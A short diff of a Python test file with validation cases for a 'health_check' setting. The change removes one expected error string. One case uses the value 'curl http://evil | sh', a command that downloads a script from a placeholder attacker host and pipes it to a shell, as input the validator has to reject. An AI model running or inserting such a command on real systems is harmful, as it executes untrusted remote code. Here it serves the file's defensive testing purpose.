@@ -676,7 +676,7 @@ HEALTH = [
          "health_check.status: does not apply to type tcp"),
     Case("health-udp", dict(UDP, health_check={"enabled": True}), "health_check: does not apply to protocol udp"),
     Case("health-unknown-option", {"health_check": {"command": "curl http://evil | sh"}},
-         'health_check: unsupported field "command"', "Unsupported parameters for"),
+         'health_check: unsupported field "command"'),
     Case("health-text", {"health_check": "off"}, 'health_check: "off" is a str, expected a mapping', ANSIBLE_DICT_ERROR),
 ]
 
